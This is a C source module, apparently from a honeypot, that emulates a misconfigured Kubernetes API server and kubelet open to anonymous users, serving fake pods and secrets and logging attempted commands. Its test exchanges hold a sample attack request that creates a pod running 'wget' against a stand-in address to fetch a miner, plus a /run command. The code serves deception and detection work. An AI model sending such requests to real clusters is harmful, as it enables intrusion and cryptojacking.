/*
 * The API server of a Kubernetes cluster (6443) and the kubelet of its node (10250), both letting
 * anonymous users in as misconfigured ones do: pods are listed, secrets read, miners deployed,
 * commands run in pods through /run.
 *
 * Nothing is deployed.  What is to be created is told with its image and command; commands of
 * /run are played by the device's shell.
 */
#include "base/options.h"
#include "base/random.h"
#include "passive/services/http/api.h"
#include "passive/services/http/form.h"

#define LINE_MAX 2048

struct kubernetes_device {
	const char *version, *commit, *date, *go, *node;
	bool open;
};

/* clang-format off */
static const struct dialect kubernetes_dialect = {
	.server = "kubernetes", .reference = "kube-apiserver 1.24, net/http of Go",
	.page_head = "%{version} %{status} %{reason}\r\n%{fields}Date: %{date}\r\nContent-Length: %{length}\r\n"
		     "%{connection}\r\n",
	.alive = "", .dying = "Connection: close\r\n",
	.statuses = (const struct dialect_status[]){{0}},
};
/* clang-format on */

static const struct kubernetes_device *device_of(const struct api_call *c)
{
	return session_device(c->session);
}

static void write_uuid(struct writer *w, const struct session *s, const char *what)
{
	char text[33];
	struct writer t = writer_of(text, sizeof text);
	api_write_hex(&t, s, what, 32);
	write_fmt(w, "%.8s-%.4s-4%.3s-8%.3s-%.12s", text, text + 8, text + 13, text + 17, text + 20);
}

static void version(struct api_call *c)
{
	const struct kubernetes_device *d = device_of(c);
	write_fmt(&c->out,
	          "{\n  \"major\": \"1\",\n  \"minor\": \"%.2s\",\n  \"gitVersion\": \"v%s\",\n  \"gitCommit\": \"%s\",\n"
	          "  \"gitTreeState\": \"clean\",\n  \"buildDate\": \"%s\",\n  \"goVersion\": \"%s\",\n  \"compiler\": \"gc\",\n"
	          "  \"platform\": \"linux/amd64\"\n}",
	          d->version + 2, d->version, d->commit, d->date, d->go);
}

static void status_of(struct api_call *c, unsigned status, const char *reason, const char *message)
{
	c->status = status;
	write_fmt(&c->out,
	          "{\n  \"kind\": \"Status\",\n  \"apiVersion\": \"v1\",\n  \"metadata\": {},\n  \"status\": \"Failure\",\n"
	          "  \"message\": \"%s\",\n  \"reason\": \"%s\",\n  \"details\": {},\n  \"code\": %u\n}",
	          message, reason, status);
}

static const char *const pods[][3] = {
	{"kube-system", "coredns-6d4b75cb6d-", "k8s.gcr.io/coredns/coredns:v1.8.6"},
	{"kube-system", "etcd-", "k8s.gcr.io/etcd:3.5.3-0"},
	{"kube-system", "kube-proxy-", "k8s.gcr.io/kube-proxy:v1.24.3"},
	{"default", "web-5f7d8c9b44-", "nginx:1.21"},
	{"default", "redis-0-", "redis:6.2"},
};

static void write_pod(struct api_call *c, size_t i)
{
	char node[64];
	session_expand(c->session, device_of(c)->node, node, sizeof node);
	write_fmt(&c->out, "{\"metadata\":{\"name\":\"%s", pods[i][1]);
	api_write_hex(&c->out, c->session, pods[i][1], 5);
	write_fmt(&c->out, "\",\"namespace\":\"%s\",\"uid\":\"", pods[i][0]);
	write_uuid(&c->out, c->session, pods[i][1]);
	write_fmt(&c->out,
	          "\",\"creationTimestamp\":\"2015-02-11T08:2%zu:13Z\"},\"spec\":{\"containers\":[{\"name\":\"%.*s\",\"image\":\"%s\","
	          "\"resources\":{},\"imagePullPolicy\":\"IfNotPresent\"}],\"restartPolicy\":\"Always\",\"serviceAccountName\":"
	          "\"default\",\"nodeName\":\"%s\"},\"status\":{\"phase\":\"Running\",\"podIP\":\"10.244.0.%zu\"}}",
	          i, (int)strcspn(pods[i][1], "-"), pods[i][1], pods[i][2], node, i + 4);
}

static void list_pods(struct api_call *c, struct bytes space)
{
	write_text(&c->out, "{\"kind\":\"PodList\",\"apiVersion\":\"v1\",\"metadata\":{\"resourceVersion\":\"184467\"},\"items\":[");
	bool first = true;
	for (size_t i = 0; i < sizeof pods / sizeof *pods; i++)
		if (!space.len || bytes_equal_text(space, pods[i][0])) {
			write_text(&c->out, first ? "" : ",");
			write_pod(c, i);
			first = false;
		}
	write_text(&c->out, "]}\n");
}

static void list_plain(struct api_call *c, const char *kind, const char *const *names, size_t count)
{
	write_fmt(&c->out, "{\"kind\":\"%s\",\"apiVersion\":\"v1\",\"metadata\":{\"resourceVersion\":\"184467\"},\"items\":[", kind);
	for (size_t i = 0; i < count; i++) {
		write_fmt(&c->out, "%s{\"metadata\":{\"name\":\"%s\",\"uid\":\"", i ? "," : "", names[i]);
		write_uuid(&c->out, c->session, names[i]);
		write_text(&c->out, "\"}}");
	}
	write_text(&c->out, "]}\n");
}

static void list_secrets(struct api_call *c)
{
	write_text(&c->out, "{\"kind\":\"SecretList\",\"apiVersion\":\"v1\",\"metadata\":{\"resourceVersion\":\"184467\"},\"items\":["
	                    "{\"metadata\":{\"name\":\"registry-credentials\",\"namespace\":\"default\"},\"data\":{\"token\":\"");
	api_write_hex(&c->out, c->session, "secret", 40);
	write_text(&c->out, "\"},\"type\":\"Opaque\"}]}\n");
}

/* Texts of a JSON list with blanks between. */
static void write_words(struct writer *w, struct bytes json)
{
	bool inside = false;
	for (size_t i = 0; i < json.len; i++) {
		if (json.at[i] == '"' && (inside = !inside))
			write_text(w, " ");
		else if (inside && json.at[i] != '"')
			write_u8(w, json.at[i] < ' ' ? ' ' : json.at[i]);
	}
}

static void create(struct api_call *c)
{
	char line[LINE_MAX];
	struct writer w = writer_of(line, sizeof line - 1);
	struct bytes kind = api_json_text(c->body, "kind"), image = api_json_text(c->body, "image");
	struct bytes name = api_json_text(c->body, "name");
	write_text(&w, "kubectl create ");
	write_bytes(&w, kind.at, kind.len < 64 ? kind.len : 64);
	write_text(&w, " ");
	write_bytes(&w, name.at, name.len < 128 ? name.len : 128);
	write_text(&w, " --image=");
	write_bytes(&w, image.at, image.len < 256 ? image.len : 256);
	write_words(&w, api_json_value(c->body, "command"));
	write_words(&w, api_json_value(c->body, "args"));
	event_set_bytes(session_report(c->session, EVENT_COMMAND_SENT), FIELD_COMMAND_LINE, writer_bytes(&w));
	api_name_urls(c->session, writer_bytes(&w), "kubernetes");
	c->status = 201;
	if (c->body.len && c->body.at[0] == '{' && c->body.len < API_ANSWER_MAX / 2)
		write_span(&c->out, c->body);
	else
		write_text(&c->out, "{}");
}

/* POST /run/NAMESPACE/POD/CONTAINER of the kubelet, cmd=... in the body or the query. */
static void run(struct api_call *c)
{
	uint8_t line[LINE_MAX];
	struct writer w = writer_of(line, sizeof line);
	struct bytes raw = form_value(c->body, "cmd");
	if (!raw.len)
		raw = form_value(c->query, "cmd");
	form_decode((struct bytes){raw.at, raw.len < sizeof line ? raw.len : sizeof line}, &w);
	c->type = "text/plain; charset=utf-8";
	if (!raw.len) {
		c->status = 400;
		write_text(&c->out, "missing cmd parameter\n");
		return;
	}
	event_set_bytes(session_report(c->session, EVENT_COMMAND_SENT), FIELD_COMMAND_LINE, writer_bytes(&w));
	command_run(c->session, c->shell, writer_bytes(&w), &c->out);
}

static bool is_post(const struct api_call *c)
{
	return bytes_equal_text(c->request->method, "POST") || bytes_equal_text(c->request->method, "PUT");
}

static void server(struct api_call *c)
{
	static const char *const namespaces[] = {"default", "kube-node-lease", "kube-public", "kube-system"};
	char node[64];
	const char *nodes[] = {node};
	struct bytes space = {0};
	session_expand(c->session, device_of(c)->node, node, sizeof node);
	if (is_post(c))
		create(c);
	else if (api_path(c, "/", NULL))
		write_text(&c->out, "{\n  \"paths\": [\n    \"/.well-known/openid-configuration\",\n    \"/api\",\n    \"/api/v1\",\n"
		                    "    \"/apis\",\n    \"/apis/\",\n    \"/apis/apps\",\n    \"/apis/apps/v1\",\n    \"/healthz\",\n"
		                    "    \"/healthz/etcd\",\n    \"/livez\",\n    \"/metrics\",\n    \"/openapi/v2\",\n    \"/readyz\",\n"
		                    "    \"/version\"\n  ]\n}");
	else if (api_path(c, "/api", NULL))
		write_text(&c->out, "{\"kind\":\"APIVersions\",\"versions\":[\"v1\"],\"serverAddressByClientCIDRs\":[{\"clientCIDR\":"
		                    "\"0.0.0.0/0\",\"serverAddress\":\"10.0.2.15:6443\"}]}\n");
	else if (api_path(c, "/apis", NULL))
		write_text(&c->out, "{\"kind\":\"APIGroupList\",\"apiVersion\":\"v1\",\"groups\":[{\"name\":\"apps\",\"versions\":[{"
		                    "\"groupVersion\":\"apps/v1\",\"version\":\"v1\"}],\"preferredVersion\":{\"groupVersion\":"
		                    "\"apps/v1\",\"version\":\"v1\"}}]}\n");
	else if (api_path(c, "/api/v1/pods", NULL) || api_path(c, "/api/v1/namespaces/*/pods", &space))
		list_pods(c, space);
	else if (api_path(c, "/api/v1/namespaces", NULL))
		list_plain(c, "NamespaceList", namespaces, 4);
	else if (api_path(c, "/api/v1/nodes", NULL))
		list_plain(c, "NodeList", nodes, 1);
	else if (api_path(c, "/api/v1/secrets", NULL) || api_path(c, "/api/v1/namespaces/*/secrets", NULL))
		list_secrets(c);
	else
		status_of(c, 404, "NotFound", "the server could not find the requested resource");
}

#define KUBELET_PORT 10250

static void route(struct api_call *c)
{
	bool kubelet = bytes_start_with(c->path, "/run/") || api_path(c, "/pods", NULL) || api_path(c, "/runningpods", NULL);
	if (api_path(c, "/version", NULL)) {
		version(c);
	} else if (api_path(c, "/healthz", NULL) || api_path(c, "/livez", NULL) || api_path(c, "/readyz", NULL)) {
		c->type = "text/plain; charset=utf-8";
		write_text(&c->out, "ok");
	} else if (!device_of(c)->open) {
		char message[256], path[100];
		if (!bytes_copy_text(c->path, path, sizeof path) || strpbrk(path, "\"\\"))
			snprintf(path, sizeof path, "/");
		snprintf(message, sizeof message, "forbidden: User \\\"system:anonymous\\\" cannot get path \\\"%s\\\"", path);
		status_of(c, 403, "Forbidden", message);
	} else if (kubelet && bytes_start_with(c->path, "/run/")) {
		run(c);
	} else if (kubelet) {
		list_pods(c, (struct bytes){0});
	} else if (session_local_port(c->session) == KUBELET_PORT) { /* as Go says it of itself */
		c->status = 404;
		c->type = "text/plain; charset=utf-8";
		write_text(&c->out, "404 page not found\n");
	} else {
		server(c);
	}
}

static void kubernetes_answer(struct api_call *c)
{
	bool kubelet = session_local_port(c->session) == KUBELET_PORT;
	route(c);
	if (!kubelet) {
		write_text(&c->fields, "Audit-Id: ");
		char what[24];
		snprintf(what, sizeof what, "%llx", (unsigned long long)session_random(c->session));
		write_uuid(&c->fields, c->session, what);
		write_text(&c->fields, "\r\nCache-Control: no-cache, private\r\n");
	}
	write_fmt(&c->fields, "Content-Type: %s\r\n", c->type);
	if (c->status >= 400 || bytes_start_with((struct bytes){(const uint8_t *)c->type, strlen(c->type)}, "text/"))
		write_text(&c->fields, "X-Content-Type-Options: nosniff\r\n");
	if (kubelet)
		return;
	write_text(&c->fields, "X-Kubernetes-Pf-Flowschema-Uid: ");
	write_uuid(&c->fields, c->session, "flow");
	write_text(&c->fields, "\r\nX-Kubernetes-Pf-Prioritylevel-Uid: ");
	write_uuid(&c->fields, c->session, "priority");
	write_text(&c->fields, "\r\n");
}

static const struct api_style kubernetes_style = {
	.dialect = &kubernetes_dialect,
	.body_max = 64u << 10,
	.answer = kubernetes_answer,
	.only_http = true,
	.bad_request = "HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request",
};

static enum service_next kubernetes_input(struct session *s, void *state, struct reader *in)
{
	return api_input(s, state, in, &kubernetes_style, state);
}

static void kubernetes_close(struct session *s, void *state)
{
	api_close(s, state);
}

/* clang-format off */
static const struct exchange kubernetes_exchanges[] = {
	{"a pod that mines",
	 BYTES("POST /api/v1/namespaces/default/pods HTTP/1.0\r\nContent-Length: 145\r\n\r\n"
	       "{\"kind\":\"Pod\",\"metadata\":{\"name\":\"kube-controller\"},\"spec\":{\"containers\":[{\"image\":\"alpine\",\"command\":"
	       "[\"sh\",\"-c\",\"wget http://203.0.113.9/m\"]}]}}"),
	 BYTES("HTTP/1.0 201 Created\r\n"
	       "Audit-Id: ae206f3f-3175-4c98-80d2-cf44573ec1be\r\n"
	       "Cache-Control: no-cache, private\r\n"
	       "Content-Type: application/json\r\n"
	       "X-Kubernetes-Pf-Flowschema-Uid: f8636b5e-f353-465d-8a93-1832cfebc96c\r\n"
	       "X-Kubernetes-Pf-Prioritylevel-Uid: 00b1b188-2c1b-4afa-8177-32aa200cdcc2\r\n"
	       "Date: Wed, 01 Apr 2015 00:00:00 GMT\r\n"
	       "Content-Length: 145\r\n"
	       "Connection: close\r\n"
	       "\r\n"
	       "{\"kind\":\"Pod\",\"metadata\":{\"name\":\"kube-controller\"},\"spec\":{\"containers\":[{\"image\":\"alpine\",\"command\":[\"sh\",\"-c\",\"wget http://203.0.113.9/m\"]}]}}"),
	 "{\"kind\":\"command.sent\",\"command.line\":\"kubectl create Pod kube-controller --image=alpine sh -c wget http://203.0.113.9/m\"}\n"
	 "{\"kind\":\"file.captured\",\"file.url\":\"http://203.0.113.9/m\"}\n{\"kind\":\"request.seen\",\"status\":201}"},
	{"a command in a pod", BYTES("POST /run/default/web/nginx HTTP/1.0\r\nContent-Length: 10\r\n\r\ncmd=echo+a"), BYTES("HTTP/1.0 200 OK\r\n"
	       "Audit-Id: ae206f3f-3175-4c98-80d2-cf44573ec1be\r\n"
	       "Cache-Control: no-cache, private\r\n"
	       "Content-Type: text/plain; charset=utf-8\r\n"
	       "X-Content-Type-Options: nosniff\r\n"
	       "X-Kubernetes-Pf-Flowschema-Uid: f8636b5e-f353-465d-8a93-1832cfebc96c\r\n"
	       "X-Kubernetes-Pf-Prioritylevel-Uid: 00b1b188-2c1b-4afa-8177-32aa200cdcc2\r\n"
	       "Date: Wed, 01 Apr 2015 00:00:00 GMT\r\n"
	       "Content-Length: 2\r\n"
	       "Connection: close\r\n"
	       "\r\n"
	       "a\n"),
	 "{\"kind\":\"command.sent\",\"command.line\":\"echo a\"}\n{\"kind\":\"request.seen\",\"status\":200}"},
	{0},
};
/* clang-format on */

static const struct option kubernetes_device[] = {
	{.name = "version", .type = OPTION_TEXT, .offset = offsetof(struct kubernetes_device, version),
	 .fallback = "1.24.3", .summary = "of Kubernetes"},
	{.name = "commit", .type = OPTION_TEXT, .offset = offsetof(struct kubernetes_device, commit),
	 .fallback = "aef86a93758dc3cb2c658dd9657ab4ad4afc21cb", .summary = "what it was built from"},
	{.name = "date", .type = OPTION_TEXT, .offset = offsetof(struct kubernetes_device, date),
	 .fallback = "2022-07-13T14:23:26Z", .summary = "when it was built"},
	{.name = "go", .type = OPTION_TEXT, .offset = offsetof(struct kubernetes_device, go),
	 .fallback = "go1.18.3", .summary = "what it was built with"},
	{.name = "node", .type = OPTION_TEXT, .offset = offsetof(struct kubernetes_device, node),
	 .fallback = "%{hostname}", .summary = "name of the node"},
	{.name = "open", .type = OPTION_BOOL, .offset = offsetof(struct kubernetes_device, open),
	 .fallback = "true", .summary = "whether anonymous users may do anything"},
	{0},
};

static const struct service kubernetes = {
	.name = "kubernetes",
	.summary = "API server and kubelet of a cluster that lets anyone in",
	.reference = "Kubernetes API 1.24; kubelet /run and /pods",
	.transports = TRANSPORT_TCP,
	.ports = {8001},
	.secure_ports = {6443, 10250},
	.alpn = "http/1.1",
	.state_size = sizeof(struct api),
	.input_max = API_INPUT_MAX,
	.output_max = 256u << 10,
	.arena_max = API_ARENA_MAX,
	.idle_ms_max = 120 * 1000,
	.session_ms_max = 600 * 1000,
	.device = kubernetes_device,
	.device_size = sizeof(struct kubernetes_device),
	.input = kubernetes_input,
	.close = kubernetes_close,
	.exchanges = kubernetes_exchanges,
};
SERVICE(kubernetes);
